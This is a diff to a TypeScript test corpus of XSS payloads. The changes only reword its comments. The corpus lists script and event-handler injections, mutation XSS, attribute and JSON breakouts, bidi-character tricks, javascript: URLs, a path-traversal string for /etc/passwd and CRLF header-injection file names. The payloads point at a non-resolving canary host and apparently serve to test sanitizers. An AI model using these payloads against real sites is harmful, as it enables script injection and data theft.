@@ -1,13 +1,14 @@
-// Texts made to be run, by the place that they are meant for. Each raises window.__ran, opens a dialog or asks CANARY when a
-// browser takes any part of it for more than letters. Written here, after the classes that are known of old.
+// Corpus of injection payloads (XSS) by their target. Each one raises window.__ran, opens a dialog or sends a request to CANARY
+// if a browser takes any part of it for more than text. They were written for this project, after the classes of attacks known
+// for a long time.
 
-/** A host that nothing may ever ask. */
+/** A host that must never receive a request. */
 export const CANARY = 'canary.invalid';
 
 const RUN = 'window.__ran=(window.__ran||0)+1';
 const away = `//${CANARY}/`;
 
-/** Elements and attributes that run, load, frame or send, for whoever puts a text into markup. */
+/** Elements and attributes that run, load, frame or send, against code that inserts text into markup. */
 const markup: readonly string[] = [
   `<script>${RUN}</script>`,
   `<script src=${away}a.js></script>`,
@@ -77,7 +78,9 @@ const markup: readonly string[] = [
   `<script type=importmap>{"imports":{"react":"${away}"}}</script>`,
 ];
 
-/** Texts that change their meaning when they are parsed, written and parsed again, or parsed in another namespace. */
+/**
+ * Texts whose meaning changes when they are parsed, serialized and parsed again (mutation XSS), or parsed in another namespace.
+ */
 const mutating: readonly string[] = [
   `<svg onload=${RUN}>`,
   `<svg><script>${RUN}</script></svg>`,
@@ -137,7 +140,7 @@ const mutating: readonly string[] = [
   `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
 ];
 
-/** Texts that leave an attribute, a string of a script, a template, or JSON inside of a page. */
+/** Texts that break out of an attribute, a string of a script, a template, or JSON in a page. */
 const leaving: readonly string[] = [
   `"><script>${RUN}</script>`,
   `'><img src=x onerror=${RUN}>`,
@@ -176,7 +179,7 @@ const leaving: readonly string[] = [
   `-moz-binding:url(${away}x.xml#x)`,
 ];
 
-/** Texts whose letters are the attack: what turns writing round, ends it, or is none. */
+/** Texts whose characters are the attack: they reverse the writing direction, end the text, or are invalid characters. */
 const letters: readonly string[] = [
   `\u202e<script>${RUN}</script>\u202c`,
   `\u2066\u2067\u2068<img src=x onerror=${RUN}>`,
@@ -201,7 +204,7 @@ const letters: readonly string[] = [
   '../../../../etc/passwd',
 ];
 
-/** Addresses that run, or lead where no reader should be led, for whatever makes a link of them. */
+/** URLs that run code, or lead where no reader should go, against code that turns them into links. */
 export const ADDRESSES: readonly string[] = [
   `javascript:${RUN}`,
   `JaVaScRiPt:${RUN}`,
@@ -244,7 +247,7 @@ export const ADDRESSES: readonly string[] = [
   `tel:"onclick=${RUN}`,
 ];
 
-/** Names that a file may have been given. */
+/** Names that a file may have. */
 export const FILE_NAMES: readonly string[] = [
   `"><img src=x onerror=${RUN}>.png`,
   `a\r\nSet-Cookie: hostile=1.pdf`,
@@ -262,7 +265,7 @@ export const FILE_NAMES: readonly string[] = [
   `%0d%0aX-Hostile:%201`,
 ];
 
-/** The corpus by kind; each kind goes into every field that takes text. */
+/** The corpus by kind. Each kind is put into every field that accepts text. */
 export const TEXTS_BY_KIND: Readonly<Record<string, readonly string[]>> = { markup, mutating, leaving, letters };
 
 export const ALL_TEXTS: readonly string[] = Object.values(TEXTS_BY_KIND).flat();
